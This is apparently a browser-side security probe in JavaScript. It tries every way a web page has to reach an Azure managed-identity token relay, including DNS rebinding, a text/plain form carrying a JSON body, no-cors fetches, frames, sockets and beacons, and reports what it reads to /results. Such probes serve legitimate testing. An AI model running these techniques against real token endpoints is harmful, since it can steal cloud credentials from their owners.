// Runs in a page, and asks the relay in every way that a page has. Its last act is to send what it
// has read.
export async function askAsPage(relay, rebound, key) {
  const scopes = ["https://storage.azure.com/.default"];
  const query = "/msi/token?api-version=2019-08-01&resource=https%3A%2F%2Fstorage.azure.com";
  const bearer = { authorization: `Bearer ${key}`, "content-type": "application/json" };
  const body = JSON.stringify({ version: 1, scopes });
  const read = async (url, options) => {
    try {
      const response = await fetch(url, options);
      return `${response.type} ${response.status} ${await response.text()}`;
    } catch (error) {
      return String(error);
    }
  };
  const frame = await openFrame((target) => Object.assign(target, { src: relay + query }));
  const posted = await openFrame(({ name }) => sendForm(`${relay}/token`, body, name));
  const results = [
    await read(relay + query, { headers: { "X-IDENTITY-HEADER": key } }), // asks first, by OPTIONS
    await read(relay + query, { mode: "no-cors" }),
    await read(`${relay}/token`, { method: "POST", mode: "no-cors", body }),
    await read(`${relay}/token`, { method: "POST", headers: bearer, body }),
    await read(rebound + query, { mode: "no-cors" }), // the name of another site, which leads to the relay
    contentOf(frame),
    contentOf(posted),
    await heard(new WebSocket(relay.replace("http", "ws") + query)),
    await heard(new EventSource(relay + query)),
    await heard(Object.assign(new Image(), { src: relay + query })),
    String(navigator.sendBeacon(`${relay}/token`, body)),
  ];
  await fetch("/results", { method: "POST", body: JSON.stringify(results) });
}

const contentOf = (frame) => frame.contentDocument?.body.textContent ?? "the page cannot read the frame";

async function openFrame(fill) {
  const frame = Object.assign(document.createElement("iframe"), { name: `frame-${window.length}` });
  document.body.append(frame);
  const shown = new Promise((resolve) => frame.addEventListener("load", resolve));
  fill(frame);
  await shown;
  return frame;
}

/** A form whose body is a JSON document, but for its type. */
function sendForm(action, body, target) {
  const form = Object.assign(document.createElement("form"), { action, target, method: "post", enctype: "text/plain" });
  const [name, value] = [`${body.slice(0, -1)},"more":"`, '"}'];
  form.append(Object.assign(document.createElement("input"), { name, value }));
  document.body.append(form);
  form.submit();
}

/** The first thing that a socket, a stream or an image brings. */
const heard = (source) =>
  new Promise((resolve) => {
    for (const event of ["message", "load", "error"])
      source.addEventListener(event, ({ type, data }) => resolve(`${type} ${data}`));
  });
